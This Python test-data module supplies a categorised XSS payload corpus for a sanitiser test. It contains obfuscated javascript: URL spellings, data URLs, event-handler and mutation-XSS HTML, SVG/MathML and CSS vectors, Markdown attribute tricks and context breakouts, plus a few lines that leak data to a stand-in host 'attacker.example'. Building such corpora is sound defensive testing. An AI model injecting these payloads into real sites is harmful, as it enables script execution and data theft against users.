"""The hostile-content corpus for ``test_xss.py``: XSS payloads as data, each with its category.

Every payload tries to run script (``alert(1)``, which the browser test sees as a dialog, or
``window.__pwned = true``, which it reads back) or to smuggle a dangerous attribute, URL, element or
style into the page. The test puts each one into every field that reaches a page.

Not in the corpus on purpose: NUL bytes and invalid UTF-8 (an entry file holding them is refused as a
whole, see ``test_fuzz.py``), and ``<plaintext>`` (it turns the rest of the document into text: with the
sanitiser off it would hide every later payload on the page from the test, not make anything run).
"""

from __future__ import annotations

from dataclasses import dataclass

JS = "alert(1)"
PWN = "window.__pwned=true"


@dataclass(frozen=True)
class Payload:
    category: str
    text: str


# "javascript:" as an attacker spells it: case, whitespace and control characters the URL parser strips,
# HTML character references (named, decimal, hex, zero-padded, without semicolons), percent-encoding.
JAVASCRIPT_SPELLINGS = (
    "javascript:",
    "JAVASCRIPT:",
    "JaVaScRiPt:",
    " javascript:",
    "\tjavascript:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "\x0bjavascript:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#X6a;avascript:",
    "&#0000106;avascript:",
    "&#x000006a;avascript:",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3A;",
    "java&Tab;script:",
    "java&NewLine;script:",
    "jav&#x09;ascript:",
    "jav&#x0A;ascript:",
    "jav&#x0D;ascript:",
    "&#x20;javascript:",
    "&#14;javascript:",
    "%6Aavascript:",
    "javascript%3A",
    "ｊａｖａｓｃｒｉｐｔ:",
)

VBSCRIPT_SPELLINGS = (
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    " vbscript:msgbox(1)",
    "vbscript&colon;msgbox(1)",
    "&#118;bscript:msgbox(1)",
)

DATA_URLS = (
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    " data:text/html,<svg onload=alert(1)>",
    "&#100;ata:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
    "data:application/javascript,alert(1)",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
)


def _scheme_payloads() -> list[Payload]:
    out: list[Payload] = []
    for s in JAVASCRIPT_SPELLINGS:
        out.append(Payload("md-link-javascript", f"[click me]({s}{JS})"))
        out.append(Payload("md-image-javascript", f"![picture]({s}{JS})"))
        out.append(Payload("raw-a-javascript", f'<a href="{s}{JS}">click me</a>'))
    for s in JAVASCRIPT_SPELLINGS[:8]:
        out.append(Payload("md-link-javascript", f"[click me](<{s}{JS}>)"))
        out.append(Payload("md-reflink-javascript", f"[click me][r]\n\n[r]: {s}{JS}"))
    for s in VBSCRIPT_SPELLINGS:
        out.append(Payload("md-link-vbscript", f"[click me]({s})"))
        out.append(Payload("md-image-vbscript", f"![picture]({s})"))
        out.append(Payload("raw-a-vbscript", f'<a href="{s}">click me</a>'))
    for d in DATA_URLS:
        out.append(Payload("md-link-data", f"[click me]({d})"))
        out.append(Payload("md-image-data", f"![picture]({d})"))
        out.append(Payload("raw-data-url", f'<a href="{d}">click me</a><img src="{d}">'))
    out += [
        Payload("raw-data-url", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
        Payload("raw-data-url", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
        Payload("raw-data-url", '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ]
    return out


# Raw HTML: script, event handlers (with and without interaction), frames, forms, base, meta refresh.
RAW_HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    '<script src="data:,alert(1)"></script>',
    "<script>/*</script><script>*/alert(1)</script>",
    '<script type="module">alert(1)</script>',
    '<script src="live.json"></script><script src="atom.xml"></script>',
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x:alert(1)" onerror="eval(src)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)" onclick="alert(1)">hover me</div>',
    '<a href="https://example.org" onclick="alert(1)">click me</a>',
    '<p onpointerenter="alert(1)" tabindex="1" onfocusin="alert(1)">x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe onload=alert(1)></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type="submit" value="go"></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://attacker.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<a href="https://example.org" target="_blank" rel="opener">tabnabbing</a>',
    '<a href="https://example.org" ping="https://attacker.example/">ping</a>',
    '<img src="https://example.org/a.png" srcset="javascript:alert(1) 1x">',
    '<a href="javascript:alert(1)"<b>x</b>',
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<template><img src=x onerror=alert(1)></template>",
    "<keygen autofocus onfocus=alert(1)>",
)

# Broken nesting, parser differentials and mutation XSS.
BROKEN = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml><img src=x onerror=alert(1)>?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="https://example.org"><img src=x onerror=alert(1) </a>',
    "<b><i>unclosed <a href=javascript:alert(1)>nest</b></i>",
    "<table><td><img src=x onerror=alert(1)></table>",
    '<div id="x"><p>unclosed<div onclick=alert(1)>',
    "</div></article></main><img src=x onerror=alert(1)>",
    "</p></div></section><script>alert(1)</script>",
    "<select><img src=x onerror=alert(1)></select>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
)

SVG_MATHML = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<svg><script href="data:,alert(1)" /></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">click</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text x="0" y="20">click</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    '<svg><image href="x" onerror="alert(1)"/></svg>',
    '<svg><style>@import "data:,*{x:y}";</style><img src=x onerror=alert(1)></svg>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">click</maction></math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">click</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<math><style><img src=x onerror=alert(1)></style></math>",
)

CSS = (
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>*{x:expression(alert(1))}</style>",
    '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="alert(1)">x</b>',
    '<b style="transition:color 1s" ontransitionend="alert(1)">x</b>',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</p>',
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>input[value^=a]{background:url(https://attacker.example/a)}</style>",
)

# attr_list and other Markdown extensions that set attributes or pass HTML through.
MARKDOWN_TRICKS = (
    'A paragraph {: onclick="alert(1)" }',
    "# Heading {: onmouseover=alert(1) }",
    '[x](https://example.org){: onclick="alert(1)" }',
    '[x](https://example.org){: href="javascript:alert(1)" }',
    '![x](https://example.org/a.png){: onerror="alert(1)" }',
    '![x](https://example.org/a.png){: src="javascript:alert(1)" }',
    'Styled {: style="background:url(javascript:alert(1))" }',
    "Focus me {: #x .y onfocus=alert(1) autofocus tabindex=1 }",
    '```{ .python onclick="alert(1)" }\ncode\n```',
    '<div markdown="1" onclick="alert(1)">*x*</div>',
    "Some HTML here.\n\n*[HTML]: <img src=x onerror=alert(1)>",
    "See note[^1].\n\n[^1]: <img src=x onerror=alert(1)>",
    "Term\n: <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org 'x\" onmouseover=\"alert(1)')",
    '![x](https://example.org/a.png "\\" onerror=\\"alert(1)")',
    '[x]: https://example.org "t\\" onclick=\\"alert(1)"\n\n[click me][x]',
    "<javascript:alert(1)>",
    '<https://example.org/" onclick="alert(1)>',
    "`<img src=x onerror=alert(1)>` and ``<script>alert(1)</script>``",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>\n> [q](javascript:alert(1))",
    "- <img src=x onerror=alert(1)>\n- [l](javascript:alert(1))",
)

# Text that tries to escape an attribute, a script block (the JSON-LD), a feed, or the template engine.
CONTEXT_BREAKS = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script >",
    "<!--<script>",
    '"}]},"x":"</script><img src=x onerror=alert(1)>',
    "\u2028\u2029</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "]]></content><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}${alert(1)}",
    "`-alert(1)-`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)",
)

# window.__pwned = true: the test reads the flag back as well as listening for dialogs.
PWNED = (
    f'<img src="x" onerror="{PWN}">',
    f"<svg onload={PWN}>",
    f"<script>{PWN}</script>",
    f"<body onload={PWN}>",
    f"<details open ontoggle={PWN}><summary>x</summary></details>",
    f"<input autofocus onfocus={PWN}>",
    f"[x](javascript:{PWN})",
    '<iframe srcdoc="&lt;script&gt;parent.__pwned=true&lt;/script&gt;"></iframe>',
    f"<video><source onerror={PWN}></video>",
    f"<audio src=x onerror={PWN}></audio>",
    '<object data="javascript:parent.__pwned=true"></object>',
    f'<svg><animate onbegin="{PWN}" attributeName="x" dur="1s"/></svg>',
    f'<style>@keyframes k{{}}</style><i style="animation-name:k" onanimationstart="{PWN}">x</i>',
    f'<a href="https://example.org" onclick="{PWN}">click me</a>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={PWN}></annotation-xml></math>',
)


def corpus() -> list[Payload]:
    """Every payload, in a fixed order."""
    out = _scheme_payloads()
    for category, group in (
        ("raw-html", RAW_HTML),
        ("broken-nesting", BROKEN),
        ("svg-mathml", SVG_MATHML),
        ("css", CSS),
        ("markdown-attr-list", MARKDOWN_TRICKS),
        ("context-break", CONTEXT_BREAKS),
        ("pwned", PWNED),
    ):
        out += [Payload(category, text) for text in group]
    return out


PAYLOADS = corpus()
